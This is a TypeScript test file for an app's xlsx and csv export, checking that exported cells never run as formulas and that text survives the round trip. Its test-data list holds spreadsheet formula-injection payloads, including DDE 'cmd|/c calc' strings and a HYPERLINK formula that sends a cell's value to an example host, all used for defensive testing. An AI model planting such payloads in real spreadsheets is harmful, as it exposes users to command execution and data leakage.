import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { writeWhole } from '../../../electron/print/write-whole';
import { csvOf } from '../../../electron/spreadsheet/csv';
import type { Row, Table } from '../../../electron/spreadsheet/table';
import { xlsxOf } from '../../../electron/spreadsheet/xlsx';
import { zipOf } from '../../../electron/spreadsheet/zip';
import { guarded, unguarded } from '../../../shared/entry/csv-text';
import {
  hasOpenpyxl,
  inCsvOfLibreOffice,
  inLibreOffice,
  libreOffice,
  openedByLibreOffice,
  readByPython,
} from './strangers';

const folder = mkdtempSync(join(tmpdir(), 'anjuan-spreadsheet-'));
let files = 0;
const newFile = (ending: string) => join(folder, `${++files}.${ending}`);

/** What has run in somebody's spreadsheet, or could. */
const NASTY = [
  '=1+1',
  '+1',
  '-1+cmd|\u0027/c calc\u0027!A1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u3000=1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '\u200b=1+1',
  '\u0000=1+1',
  '\u0001',
  '\t',
  '\r',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '﹦1',
  '−1',
  '=HYPERLINK("http://example.invalid?x="&A1,"click")',
  '=cmd|\u0027/c calc\u0027!A1',
  "'=1+1",
  "''",
  '"=1+1',
  'a,=1+1',
  'a;=1+1',
  'a\t=1+1',
  'a\r\n=1+1',
  '_x003D_1+1',
  '_x0000_',
  '<f>1+1</f>',
  ']]>&amp;<x/>',
  ' padded ',
  '𠮷䶮㐂',
  '\ufffd\ufffe\uffff',
  '鸿借〔2026〕001号',
];
const nasty = fc.oneof(
  fc.constantFrom(...NASTY),
  fc.string({ unit: 'binary', maxLength: 20 }),
  fc
    .tuple(
      fc.constantFrom(' ', '\t', '\r', '\u0000', '\u3000', "'", ''),
      fc.constantFrom(...'=+-@＝＋－＠'),
      fc.string(),
    )
    .map((parts) => parts.join('')),
);

const tableOf = (rows: readonly Row[], kinds: readonly Table['columns'][number]['kind'][] = ['text']): Table => ({
  name: '档案台账',
  columns: kinds.map((kind, i) => ({ heading: `=${i}`, kind, width: 12 })),
  slices: (async function* () {
    for (let at = 0; at < rows.length; at += 7) yield rows.slice(at, at + 7);
  })(),
});
const xlsxFile = async (table: Table) => {
  const file = newFile('xlsx');
  await writeWhole(file, xlsxOf(table));
  return file;
};
const textsOf = (rows: (string | number | null)[][]) => rows.slice(1).map(([text]) => text ?? '');
/** A line that Python leaves out, as it holds nothing at all. */
const filled = fc.array(
  nasty.filter((text) => text !== ''),
  { minLength: 1, maxLength: 60 },
);

describe('xlsx', () => {
  test('no text is a formula, and every text comes back as it was', async () => {
    await fc.assert(
      fc.asyncProperty(filled, async (texts) => {
        const { rows, formulas } = readByPython(await xlsxFile(tableOf(texts.map((text) => [text]))));
        expect(formulas).toBe(0);
        expect(textsOf(rows)).toEqual(texts);
      }),
      { numRuns: 12, examples: [[NASTY]] },
    );
  });

  test('numbers are numbers, amounts are in yuan, days and moments are what spreadsheets count', async () => {
    const row = ['0123', 38, 180_000_007, '2026-03-02', '2026-03-02T01:00:00.000Z'];
    const file = await xlsxFile(tableOf([row], ['text', 'number', 'yuan', 'day', 'moment']));
    const { rows, frozen, widths, sheet } = readByPython(file);
    expect(rows[1]).toEqual(['0123', 38, 1_800_000.07, 46_083, 46_083.375]);
    expect([frozen, widths, sheet]).toEqual(['A2', 5, '档案台账']);
  });

  test('a day that spreadsheets do not know stays a text', async () => {
    const { rows } = readByPython(await xlsxFile(tableOf([['1898-07-01'], ['1900-03-01']], ['day'])));
    expect(rows.slice(1)).toEqual([['1898-07-01'], [61]]);
  });

  test('empty cells and an empty list are written, too', async () => {
    expect(readByPython(await xlsxFile(tableOf([[undefined, 'b', '']], ['text', 'text', 'text']))).rows[1]).toEqual([
      null,
      'b',
    ]);
    expect(readByPython(await xlsxFile(tableOf([]))).rows).toEqual([['=0']]);
  });

  test('columns beyond Z have their letters', async () => {
    const many = Array.from({ length: 60 }, (_, i) => `c${i}`);
    expect(
      readByPython(
        await xlsxFile(
          tableOf(
            [many],
            many.map(() => 'text'),
          ),
        ),
      ).rows[1],
    ).toEqual(many);
  });

  test('a formula would be seen', async () => {
    const file = newFile('xlsx');
    const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
    const sheet = `<worksheet xmlns="${main}"><sheetData><row r="1"><c r="A1"><f>1+1</f><v>2</v></c></row></sheetData></worksheet>`;
    const book = `<workbook xmlns="${main}"><sheets><sheet name="x"/></sheets></workbook>`;
    const parts = [
      { name: 'xl/worksheets/sheet1.xml', content: [sheet] },
      { name: 'xl/workbook.xml', content: [book] },
    ];
    await writeWhole(file, zipOf(parts));
    expect(readByPython(file).formulas).toBe(1);
  });

  test.skipIf(!hasOpenpyxl)('openpyxl opens it and finds the same', async () => {
    const row = ['a', 38, 180_000_007, '2026-03-02', '2026-03-02T01:00:00.000Z'];
    const rows = [row, ...NASTY.map((text) => [text])];
    const read = readByPython(await xlsxFile(tableOf(rows, ['text', 'number', 'yuan', 'day', 'moment'])), '--openpyxl');
    expect(read.formulas).toBe(0);
    expect(read.rows[1]).toEqual(['a', 38, 1_800_000.07, '2026-03-02T00:00:00', '2026-03-02T09:00:00']);
    expect(textsOf(read.rows).slice(1)).toEqual(NASTY);
    expect([read.frozen, read.sheet]).toEqual(['A2', '档案台账']);
  });

  test.skipIf(!libreOffice)(
    'LibreOffice opens it, runs nothing, and keeps each text, TAB, CR and NUL too',
    async () => {
      const [read] = openedByLibreOffice([await xlsxFile(tableOf(NASTY.map((text) => [text])))]);
      expect(read?.formulas).toBe(0);
      expect(textsOf(read?.rows ?? [])).toEqual(NASTY.map(inLibreOffice));
    },
  );
});

describe('csv', () => {
  const RUN_BY_A_SPREADSHEET = /^[\s\p{C}]*[=+\-@＝＋－＠﹦−]/u;

  test('no cell begins like a formula, and every text comes back by taking one apostrophe away', async () => {
    await fc.assert(
      fc.asyncProperty(filled, fc.constantFrom('utf8' as const, 'gb18030' as const), async (texts, encoding) => {
        const file = newFile('csv');
        await writeWhole(file, csvOf(tableOf(texts.map((text) => [text])), encoding));
        const cells = textsOf(readByPython(file, encoding === 'utf8' ? 'utf-8-sig' : 'gb18030').rows).map(String);
        for (const cell of cells) expect(cell).not.toMatch(RUN_BY_A_SPREADSHEET);
        expect(cells.map(unguarded)).toEqual(texts);
      }),
      {
        numRuns: 12,
        examples: [
          [NASTY, 'utf8'],
          [NASTY, 'gb18030'],
        ],
      },
    );
  });

  test.skipIf(!libreOffice).each(['utf8', 'gb18030'] as const)(
    'in %s LibreOffice opens it and runs nothing, and would run what is not guarded',
    async (encoding) => {
      const [file, unguardedFile] = [newFile('csv'), newFile('csv')];
      await writeWhole(file, csvOf(tableOf(NASTY.map((text) => [text])), encoding));
      writeFileSync(unguardedFile, 'a\r\n"=1+1"\r\n');
      const [read, run] = openedByLibreOffice([file, unguardedFile], encoding);
      expect(read?.formulas).toBe(0);
      expect(textsOf(read?.rows ?? []).map((cell) => unguarded(String(cell)))).toEqual(NASTY.map(inCsvOfLibreOffice));
      expect(run).toMatchObject({ formulas: 1, rows: [['a'], [2]] });
    },
  );

  test('begins with the mark of UTF-8; numbers, amounts and days as they are typed', async () => {
    const row = ['青禾', 38, 180_000_007, '2026-03-02', '2026-03-02T01:00:00.000Z', undefined];
    const file = newFile('csv');
    await writeWhole(file, csvOf(tableOf([row], ['text', 'number', 'yuan', 'day', 'moment', 'text']), 'utf8'));
    const { rows } = readByPython(file, 'utf-8-sig');
    expect(readFileSync(file, 'utf8')).toMatch(/^\ufeff"'=0",/);
    expect(rows[1]).toEqual(['青禾', '38', '1800000.07', '2026-03-02', '2026-03-02 09:00:00', '']);
  });

  test('a cell that is not guarded would be seen', () => {
    const file = newFile('csv');
    writeFileSync(file, 'a\r\n"=1+1"\r\n');
    expect(textsOf(readByPython(file, 'utf-8').rows).filter((cell) => RUN_BY_A_SPREADSHEET.test(String(cell)))).toEqual(
      ['=1+1'],
    );
  });

  test('guarding harms no other text', () => {
    for (const text of ['鸿借〔2026〕001号', 'a=b', '0123', '', '(1)', '流动资金贷款 180 万元', '—', '№1'])
      expect(guarded(text)).toBe(text);
    fc.assert(fc.property(nasty, (text) => unguarded(guarded(text)) === text));
  });
});

describe('a file that breaks off', () => {
  test('is not there', async () => {
    const file = newFile('xlsx');
    const table = tableOf([]);
    const broken = async function* () {
      yield [['a']];
      throw new Error('gone');
    };
    await expect(writeWhole(file, xlsxOf({ ...table, slices: broken() }))).rejects.toMatchObject({
      reason: 'fileNotWritten',
    });
    expect(() => readByPython(file)).toThrow();
  });
});
